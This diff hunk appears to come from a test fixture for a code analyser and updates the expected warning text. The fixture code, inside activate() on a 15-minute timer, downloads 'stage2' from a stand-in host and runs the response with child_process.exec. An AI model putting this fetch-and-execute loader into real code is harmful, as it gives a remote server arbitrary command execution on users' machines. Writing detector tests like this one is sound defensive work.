@@ -16,7 +16,7 @@ function activate() {
     https.get('https://example.invalid/stage2', res => {
       let text = '';
       res.on('data', d => { text += d; });
-      res.on('end', () => exec(text));  // want "child_process\\.exec runs whatever a serve"
+      res.on('end', () => exec(text));  // want "child_process\\.exec runs whatever \"example.invalid\" answers"
     });
   }, 15 * 60 * 1000);
 }
